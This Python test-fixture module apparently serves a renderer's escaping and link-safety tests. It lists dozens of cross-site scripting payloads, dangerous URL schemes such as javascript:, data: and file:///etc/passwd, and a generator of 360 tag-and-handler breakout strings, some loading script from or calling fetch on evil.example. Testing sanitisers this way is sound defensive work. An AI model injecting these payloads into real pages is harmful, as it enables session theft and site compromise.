"""Hostile strings: as text they must be shown as they are, as addresses they must never become links."""

TEXTS = [
    "<script>window.__xss=1</script>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.__xss=1>",
    "<img src='x' onerror='alert(1)'>",
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<iframe src=javascript:window.top.__xss=1></iframe>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<body onload=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>x</details>",
    "<video><source onerror=window.__xss=1></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "<object data=javascript:window.__xss=1>",
    "<embed src=javascript:window.__xss=1>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__xss=1'>",
    "<form action=javascript:window.__xss=1><button>x</button></form>",
    "<a href=javascript:window.__xss=1>cliquez</a>",
    "[cliquez](javascript:window.__xss=1)",
    "![x](https://evil.example/pixel.png)",
    '"><script>window.__xss=1</script>',
    "' onmouseover=window.__xss=1 x='",
    "</p></blockquote></article><script>window.__xss=1</script>",
    "<template><script>window.__xss=1</script></template>",
    "<!--><img src=x onerror=window.__xss=1>-->",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    "{{constructor.constructor('window.__xss=1')()}}",
    "${window.__xss=1}",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "1. <img src=x onerror=window.__xss=1>\n2. <svg onload=window.__xss=1>",
    "- <script>window.__xss=1</script>\n- [1] <b>gras</b>",
    "\u202e<script>window.__xss=1</script>\u202c",
    "__proto__",
]

ADDRESSES = [
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    " javascript:window.__xss=1",
    "\x01javascript:window.__xss=1",
    "java\nscript:window.__xss=1",
    "java\tscript:window.__xss=1",
    "javascript://www.cnil.fr/%0awindow.__xss=1",
    "javascript:https://www.cnil.fr/",
    "data:text/html,<script>window.__xss=1</script>",
    "vbscript:msgbox(1)",
    "blob:https://www.cnil.fr/1",
    "filesystem:https://www.cnil.fr/1",
    "view-source:https://www.cnil.fr/",
    "file:///etc/passwd",
    "ftp://www.cnil.fr/",
    "http://www.cnil.fr/",
    "//www.cnil.fr/",
    "/static/main.js",
    "www.cnil.fr",
    "https:www.cnil.fr",
    "https:\\\\www.cnil.fr",
    "https://",
    "https://www.cnil.fr@evil.example/",
    "https://user:secret@www.cnil.fr/",
    "https://[::1",
    "https://exa mple.fr/",
    "",
    "   ",
    "#",
    "<script>window.__xss=1</script>",
]

_RUNS = ("window.__xss=1", "alert(1)", "top.__xss=1", "import('//evil.example/x.js')", "fetch('//evil.example')")
_TAGS = ("img", "svg", "body", "video", "audio", "input", "details", "marquee", "select", "iframe", "math", "object")
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")
_OPENINGS = ("", "</textarea>", "</style>", "-->", "]]>", '">', "'>")


def spellings() -> list[str]:
    """Every tag with every handler, breaking out of every context in turn: 360 strings that differ."""
    made = []
    for i, tag in enumerate(_TAGS):
        for j, handler in enumerate(_HANDLERS):
            for k, run in enumerate(_RUNS):
                opening = _OPENINGS[(i + j + k) % len(_OPENINGS)]
                slash = "/" if (i + k) % 2 else " "
                made.append(f"{opening}<{tag}{slash}{handler}={run} src=x autofocus open>")
    return made
